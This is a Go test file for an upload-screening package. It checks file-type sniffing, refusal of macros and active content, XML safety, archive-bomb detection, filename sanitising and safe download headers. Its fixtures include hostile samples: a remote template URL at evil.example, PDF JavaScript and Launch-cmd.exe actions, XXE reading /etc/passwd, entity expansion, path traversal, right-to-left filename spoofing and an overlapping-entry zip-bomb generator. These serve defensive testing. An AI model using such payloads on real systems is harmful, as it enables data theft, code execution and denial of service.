package file

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"net/http/httptest"
	"runtime"
	"strings"
	"testing"

	"cchc/internal/db/dbtest"
	"cchc/internal/errs"
)

const docxTypes = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

// office packs parts as an office file: name, content, name, content …
func office(parts ...string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(parts); i += 2 {
		w, _ := z.Create(parts[i])
		io.WriteString(w, parts[i+1])
	}
	z.Close()
	return b.Bytes()
}

func docx(more ...string) []byte {
	return office(append([]string{"[Content_Types].xml", docxTypes, "word/document.xml", "<w:document xmlns:w='w'/>"}, more...)...)
}

func png(width, height uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR")
	binary.Write(&b, binary.BigEndian, []uint32{width, height})
	b.WriteString("\x08\x02\x00\x00\x00\x00\x00\x00\x00")
	return b.Bytes()
}

func jpeg(width, height uint16) []byte {
	var b bytes.Buffer
	b.WriteString("\xff\xd8\xff\xe0\x00\x04JF\xff\xff\xc2\x00\x0b\x08")
	binary.Write(&b, binary.BigEndian, []uint16{height, width})
	b.WriteString("\x01\x11\x00\xff\xd9")
	return b.Bytes()
}

func TestSniff_tellsTypesByContentAndWantsTheExtensionToAgree(t *testing.T) {
	t.Parallel()
	const odt = "application/vnd.oasis.opendocument.text"
	for _, c := range []struct {
		name string
		body []byte
		want string // a media type's end, or a code
	}{
		{"a.pdf", []byte(pdf), "application/pdf"},
		{"A.PDF", []byte(pdf), "application/pdf"},
		{"a.docx", docx(), "wordprocessingml.document"},
		{"a.docx", docx("word/embeddings/chart.xlsx", "PK\x03\x04 figures of a chart"), "wordprocessingml.document"},
		{"a.odt", office("mimetype", odt, "content.xml", "<office/>"), odt},
		{"a.png", png(4960, 7016), "image/png"},
		{"a.jpeg", jpeg(4960, 7016), "image/jpeg"},
		{"a.csv", []byte("mã,tên\n"), "text/csv; charset=utf-8"},
		{"a.txt", []byte("\xff\xfea\x00\x01\x1e"), "text/plain; charset=utf-8"},
		{"a.xml", []byte("\xef\xbb\xbf<?xml version='1.0'?><a><b/></a>"), "application/xml"},

		{"a.docx", []byte(pdf), "file.extension_differs"},
		{"a.pdf", docx(), "file.extension_differs"},
		{"a", []byte(pdf), "file.extension_differs"},
		{"a.pdf.exe", []byte(pdf), "file.extension_differs"},
		{"a.zip", office("a.txt", "a"), "file.type_refused"},
		{"a.docx", office("a.txt", "a"), "file.type_refused"},
		{"a.exe", []byte("MZ\x90\x00\x03\x00"), "file.type_refused"},
		{"a.jar", office("[Content_Types].xml", `<Types/>`), "file.type_refused"},

		{"a.docm", docx("word/vbaProject.bin", "x"), "file.macro"},
		{"a.docx", docx("word/VBAPROJECT.BIN", "x"), "file.macro"},
		{"a.docx", docx(`word\vbaProject.bin`, "x"), "file.macro"},
		{"a.docx", docx("word/activeX/activeX1.xml", "<a/>"), "file.macro"},
		{"a.docx", office("[Content_Types].xml", strings.Replace(docxTypes, "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled", 1)), "file.macro"},
		{"a.xlsx", office("[Content_Types].xml", `<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`), "file.macro"},
		{"a.odt", office("mimetype", odt, "Basic/Standard/Module1.xml", "<a/>"), "file.macro"},
		{"a.docx", docx("word/_rels/settings.xml.rels", `<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`), "file.macro"},
		{"a.docx", docx("word/document.xml", "<again/>"), "file.damaged"},

		{"a.pdf", []byte("%PDF-1.7\n<</S /JavaScript /JS (app.alert(1))>>"), "file.active_content"},
		{"a.pdf", []byte("%PDF-1.7\n" + strings.Repeat("x", 65520) + "<</S /J#61vaScript>>"), "file.active_content"},
		{"a.pdf", []byte("%PDF-1.7\n<</S/Launch/F(cmd.exe)>>"), "file.active_content"},

		{"a.xml", []byte(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>`), "file.xml_unsafe"},
		{"a.xml", []byte(`<?xml version="1.0"?><!DOCTYPE l SYSTEM "file:///etc/passwd"><l/>`), "file.xml_unsafe"},
		{"a.xml", []byte(`<?xml version="1.0"?>` + strings.Repeat("<a>", 100_000)), "file.xml_unsafe"},
		{"a.docx", docx("word/x.xml", `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">]><l>&a;</l>`), "file.xml_unsafe"},
		{"a.docx", docx("word/x.xml", "<!--"+strings.Repeat(" ", 70_000)+"--><!DOCTYPE l><l/>"), "file.xml_unsafe"},

		{"a.txt", []byte("M\xe3 s\xe8"), "file.text_encoding"},
		{"a.txt", []byte("\xff\xfea"), "file.text_encoding"},
		{"a.doc", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...), "file.office_old"},
		{"a.docx", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"+strings.Repeat("\x00", 65_520)), "E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d\x00P\x00a\x00c\x00k\x00a\x00g\x00e\x00"...), "file.office_encrypted"},
		{"a.png", png(100_000, 100_000), "file.image_too_large"},
		{"a.png", png(0, 10), "file.damaged"},
		{"a.png", []byte("\x89PNG\r\n\x1a\n"), "file.damaged"},
		{"a.jpg", jpeg(65_000, 65_000), "file.image_too_large"},
		{"a.jpg", []byte("\xff\xd8\xff\xff\xff"), "file.damaged"},
		{"a.docx", docx()[:200], "file.damaged"},
		{"a.docx", append([]byte("PK\x03\x04MZ"), docx()...), "file.damaged"},
		{"a.docx", append(docx(), "more"...), "file.damaged"},
	} {
		got, err := Sniff(bytes.NewReader(c.body), int64(len(c.body)), c.name)
		if err != nil {
			got = errs.CodeOf(err)
		}
		if !strings.HasSuffix(got, c.want) || got == "" {
			t.Errorf("%s %.30q: got %q (%v), want %q", c.name, c.body, got, err, c.want)
		}
	}
}

// flat is an archive of one file of so many noughts, as small as deflate makes it.
func flat(t *testing.T, name string, size int64) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, _ := z.Create("[Content_Types].xml")
	io.WriteString(w, docxTypes)
	w, _ = z.Create(name)
	zero := make([]byte, 1<<20)
	for ; size > 0; size -= int64(len(zero)) {
		w.Write(zero)
	}
	z.Close()
	return b.Bytes()
}

// overlapping makes many directory entries that point at one packed file, the way to
// a bomb that no honest ratio shows (D. Fifield, 2019).
func overlapping(n int) []byte {
	var packed bytes.Buffer
	w, _ := flate.NewWriter(&packed, 9)
	body := bytes.Repeat([]byte("0123456789abcdef"), 60_000)
	w.Write(body)
	w.Close()
	sum := crc32.ChecksumIEEE(body)
	var b bytes.Buffer
	header := func(signature string, i int) {
		b.WriteString(signature)
		if signature == "PK\x01\x02" {
			b.WriteString("\x14\x00")
		}
		b.WriteString("\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00")
		name := fmt.Sprintf("word/media/%06d", i)
		binary.Write(&b, binary.LittleEndian, []uint32{sum, uint32(packed.Len()), uint32(len(body))})
		binary.Write(&b, binary.LittleEndian, []uint16{uint16(len(name)), 0})
		if signature == "PK\x01\x02" {
			b.Write(make([]byte, 14)) // comment, disk, attributes, offset 0
		}
		b.WriteString(name)
	}
	header("PK\x03\x04", 0)
	b.Write(packed.Bytes())
	start := b.Len()
	for i := range n {
		header("PK\x01\x02", i)
	}
	length := b.Len() - start
	b.WriteString("PK\x05\x06\x00\x00\x00\x00")
	binary.Write(&b, binary.LittleEndian, []uint16{uint16(n), uint16(n)})
	binary.Write(&b, binary.LittleEndian, []uint32{uint32(length), uint32(start)})
	b.WriteString("\x00\x00")
	return b.Bytes()
}

func TestServe_handsOutAnAttachmentThatNoBrowserRuns(t *testing.T) {
	t.Parallel()
	now := noon
	s := newStore(t, dbtest.NewSQLite(t), &now)
	b, err := s.Save(context.Background(), strings.NewReader(pdf), "Quyết định.pdf", 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	w := httptest.NewRecorder()
	r := httptest.NewRequest("GET", "/", nil)
	r.Header.Set("Range", "bytes=0-4")
	if err := s.Serve(w, r, Document{SHA256: b.SHA256, Name: b.Name, Type: b.Type}); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{
		"Content-Type": "application/pdf", "X-Content-Type-Options": "nosniff", "Content-Security-Policy": "default-src 'none'; sandbox",
		"Content-Disposition": `attachment; filename="Quyet dinh.pdf"; filename*=UTF-8''Quy%E1%BA%BFt%20%C4%91%E1%BB%8Bnh.pdf`,
	} {
		if got := w.Header().Get(name); got != want {
			t.Errorf("%s: %q", name, got)
		}
	}
	if w.Body.String() != "%PDF-" {
		t.Errorf("got %q", w.Body)
	}
	for _, sha := range []string{"", "../../etc/passwd", strings.Repeat("A", 64), strings.Repeat("a", 64)} {
		if _, err := s.Open(sha); errs.CodeOf(err) != "file.missing" {
			t.Errorf("%q: %v", sha, err)
		}
	}
}

func TestSniff_refusesBombsWithLittleMemory(t *testing.T) {
	inner := flat(t, "a", 10<<20)
	for name, body := range map[string][]byte{
		"over the ratio": flat(t, "word/document.xml", 64<<20),
		"nested":         docx("word/media/inner.zip", string(inner)),
		"nested hidden":  docx("word/media/image1.png", string(inner)),
		"overlapping":    overlapping(4000),
		"many entries":   overlapping(20_000),
		"wrapped count":  overlapping(65_536 + 10),
	} {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		_, err := Sniff(bytes.NewReader(body), int64(len(body)), "a.docx")
		runtime.ReadMemStats(&after)
		if code := errs.CodeOf(err); code != "file.archive_bomb" {
			t.Errorf("%s: got %v", name, err)
		}
		if taken := after.TotalAlloc - before.TotalAlloc; taken > 16<<20 {
			t.Errorf("%s: took %d MiB", name, taken>>20)
		}
	}
}

func TestSafeName_leavesNothingThatDeceivesOrEscapes(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"Kế hoạch 2026.docx": "Kế hoạch 2026.docx", "../../etc/passwd": "passwd", `C:\Users\a\b.pdf`: "b.pdf",
		"a\x00b\r\n.pdf": "ab.pdf", "hóa đơn\u202efdp.exe": "hóa đơnfdp.exe", "a\u200b\u2066.pdf": "a.pdf", "": "file", "...": "file", ".htaccess": "htaccess",
		"a:b*?.pdf": "a_b__.pdf", "  a  b .pdf ": "a b.pdf", "\xff.pdf": "file.pdf", "a\"; x=\".pdf": "a_; x=_.pdf",
		strings.Repeat("ế", 200) + ".pdf": strings.Repeat("ế", 48) + ".pdf",
	} {
		if got := SafeName(in); got != want && !(in == "\xff.pdf" && got == "pdf") {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
	if got, want := Disposition("Quyết định \"số\" 5.pdf"), `attachment; filename="Quyet dinh _so_ 5.pdf"; filename*=UTF-8''Quy%E1%BA%BFt%20%C4%91%E1%BB%8Bnh%20_s%E1%BB%91_%205.pdf`; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

// FuzzSniff: whatever is sent, the answer is a type or a refusal, never a fault.
func FuzzSniff(f *testing.F) {
	for _, body := range [][]byte{docx(), []byte(pdf), png(1, 1), jpeg(1, 1), []byte("a,b"), []byte("<?xml?><a/>"), overlapping(3), []byte("\xff\xfea\x00")} {
		f.Add(body, "a.docx")
	}
	f.Fuzz(func(t *testing.T, body []byte, name string) {
		if _, err := Sniff(bytes.NewReader(body), int64(len(body)), name); err != nil && errs.KindOf(err) != errs.Invalid {
			t.Fatal(err)
		}
		safe := SafeName(name)
		if safe == "" || strings.ContainsAny(safe, "/\\\x00\r\n\"") || len(safe) > maxName || SafeName(safe) != safe {
			t.Fatalf("%q became %q", name, safe)
		}
		if strings.ContainsAny(Disposition(name), "\r\n") {
			t.Fatal("a header broken in two")
		}
	})
}
